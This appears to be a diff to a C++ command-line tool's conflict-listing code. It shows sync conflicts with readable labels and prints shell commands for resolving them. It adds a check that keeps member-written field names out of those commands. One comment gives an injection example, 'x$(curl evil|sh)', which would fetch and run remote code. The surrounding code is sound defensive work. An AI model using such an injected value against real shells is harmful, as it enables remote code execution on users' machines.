@@ -2,18 +2,21 @@
 // keeps both values: the later one in the field, the other in a visible conflict. Resolving
 // writes the chosen value based on the revision now visible; every device's reducer then marks
 // the conflicts on that field resolved (model/reducer.cpp), so all devices converge on it.
-// The list names entity, field, authors (their names in the circle) and sequence numbers; the
-// values themselves only with --values. Names are case content too: neither list belongs in a
-// shared log.
+// The list names the item and the field (with labels in the user's language; the stored names
+// only in the command that resolves it), authors (their names in the circle) and sequence
+// numbers; the values themselves only with --values. Names are case content too: neither list
+// belongs in a shared log.
 #include <algorithm>
 #include <cstdlib>
 #include <iostream>
 #include <map>
 
+#include "kring/common/crypto.h"
 #include "kring/domain/organising.h"
 
 #include "domain_commands.h"
 #include "domain_ctx.h"
+#include "words.h"
 
 namespace kring::cli {
 namespace {
@@ -40,16 +43,28 @@ std::string Author(const Ctx& ctx, const std::map<std::string, std::string>& nam
   return it != names.end() ? it->second : Hex(View(account));
 }
 
-std::string ShowValue(const Ctx& ctx, const v1::Value& v) {
+std::string ShowValue(const Ctx& ctx, const std::string& field, const v1::Value& v) {
   switch (v.kind_case()) {
     case v1::Value::kText:
+      // A person's kind and a pre-talk's way are stored as identifiers: shown as words.
+      if (field == "kind") return "\"" + ShowWord(ctx, kPersonKinds, v.text()) + "\"";
+      if (field == "how") return "\"" + ShowWord(ctx, kPreTalkWays, v.text()) + "\"";
+      if (IsPollAnswerField(field)) return "\"" + ShowWord(ctx, kPollAnswers, v.text()) + "\"";
       return "\"" + v.text() + "\"";
     case v1::Value::kInteger:
+      // Times are stored as milliseconds in fields named *_ms.
+      if (field.size() > 3 && field.compare(field.size() - 3, 3, "_ms") == 0) {
+        return ShowTime(ctx, v.integer());
+      }
       return std::to_string(v.integer());
     case v1::Value::kFlag:
       return v.flag() ? ctx.T("ja", "yes") : ctx.T("nee", "no");
-    case v1::Value::kBlob:
-      return Hex(View(v.blob()));
+    case v1::Value::kBlob: {
+      // A person (an agreement's owner, the network's contact person) by their name.
+      const Bytes id = ToBytes(v.blob());
+      const std::string name = id.size() == crypto::kIdBytes ? ctx.NameOf(id) : "?";
+      return name != "?" ? name : Hex(id);
+    }
     case v1::Value::kTimeMs:
       return ShowTime(ctx, v.time_ms());
     default:
@@ -71,6 +86,38 @@ std::string JValue(const v1::Value& v) {
       return JNum(v.time_ms());
     default:
       return "null";
+  }
+}
+
+// Whether `word` can stand in a shell command as it is: letters, digits and '_' only. Any member
+// can write any field name (1..64 bytes of UTF-8), so a name like "x$(curl evil|sh)" must never
+// reach a line the user copies into a shell.
+bool ShellSafe(const std::string& word) {
+  return !word.empty() && std::all_of(word.begin(), word.end(), [](char ch) {
+    return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') ||
+           ch == '_';
+  });
+}
+
+// The commands that resolve a conflict, one complete line per choice: "current|other" pasted
+// into a shell would be a pipe. The field's name only when it is safe to paste; otherwise the
+// general form, with the name to be taken from `kring conflicts --json`.
+void PrintResolveCommands(const Ctx& ctx, const std::string& entity_hex, const std::string& field) {
+  const bool hex =
+      !entity_hex.empty() && entity_hex.find_first_not_of("0123456789abcdef") == std::string::npos;
+  const std::string entity = hex ? entity_hex : "ID";
+  std::string named = field;
+  if (!hex || !ShellSafe(field)) {
+    std::cout << ctx.T(
+        "    Deze naam van het veld kan niet veilig in een opdracht. Neem hem uit "
+        "\"field\" van kring conflicts --json:\n",
+        "    This field's name cannot safely go into a command. Take it from "
+        "\"field\" of kring conflicts --json:\n");
+    named = ctx.T("VELD", "FIELD");
+  }
+  for (const char* keep : {"current", "other"}) {
+    std::cout << "      kring conflicts resolve --entity " << entity << " --field " << named
+              << " --keep " << keep << "\n";
   }
 }
 
@@ -117,32 +164,43 @@ int List(Ctx& ctx) {
   std::cout << ctx.T("Twee mensen veranderden tegelijk hetzelfde. Beide waarden zijn bewaard:",
                      "Two people changed the same thing at the same time. Both values are kept:")
             << "\n";
+  // Labels in the user's language; the stored names only in the command that resolves it.
   for (const v1::Conflict& c : open) {
     const std::string id = Hex(View(c.entity_id()));
-    std::cout << "  " << view->entities().at(id).type() << " " << id << ctx.T(", veld ", ", field ")
-              << c.field() << "\n"
-              << ctx.T("    huidige waarde (current): ", "    current value: ")
-              << (values ? ShowValue(ctx, c.kept_value()) + ", " : "")
+    const std::string type = view->entities().at(id).type();
+    // A person of the circle also by name: the id alone does not say who.
+    const std::string who = type == domain::kPersonType
+                                ? " " + ctx.NameOf(ToBytes(c.entity_id())) + " (" + id + ")"
+                                : " " + id;
+    std::cout << "  " << EntityLabel(ctx, type) << who << ": " << FieldLabel(ctx, c.field()) << "\n"
+              << ctx.T("    huidige waarde: ", "    current value: ")
+              << (values ? ShowValue(ctx, c.field(), c.kept_value()) + ", " : "")
               << ctx.T("geschreven door ", "written by ")
               << Author(ctx, names, me->account_id, c.kept_author_account_id())
               << ctx.T(", volgnummer ", ", sequence number ") << c.kept_seq() << "\n"
-              << ctx.T("    andere waarde (other): ", "    other value: ")
-              << (values ? ShowValue(ctx, c.other_value()) + ", " : "")
+              << ctx.T("    andere waarde: ", "    other value: ")
+              << (values ? ShowValue(ctx, c.field(), c.other_value()) + ", " : "")
               << ctx.T("geschreven door ", "written by ")
               << Author(ctx, names, me->account_id, c.other_author_account_id())
-              << ctx.T(", volgnummer ", ", sequence number ") << c.other_seq() << "\n";
+              << ctx.T(", volgnummer ", ", sequence number ") << c.other_seq() << "\n"
+              << ctx.T("    Kies de huidige (current) of de andere waarde (other):\n",
+                       "    Choose the current or the other value:\n");
+    PrintResolveCommands(ctx, id, c.field());
   }
   if (!values) {
     std::cout << ctx.T("De waarden zelf: kring conflicts --values",
                        "The values themselves: kring conflicts --values")
               << "\n";
   }
-  std::cout << ctx.T(
-                   "Kies een waarde: kring conflicts resolve --entity ID --field VELD --keep "
-                   "current|other|VOLGNUMMER",
-                   "Choose a value: kring conflicts resolve --entity ID --field FIELD --keep "
-                   "current|other|SEQ")
-            << "\n";
+  // Three or more values at once on one field: "other" is not one of them, a number is.
+  std::map<std::pair<std::string, std::string>, int> per_field;
+  bool several = false;
+  for (const v1::Conflict& c : open) several |= ++per_field[{c.entity_id(), c.field()}] > 1;
+  if (several) {
+    std::cout << ctx.T("Zijn er meer dan twee waarden? Kies er dan één met --keep VOLGNUMMER.",
+                       "More than two values? Then choose one with --keep SEQ.")
+              << "\n";
+  }
   return 0;
 }
 
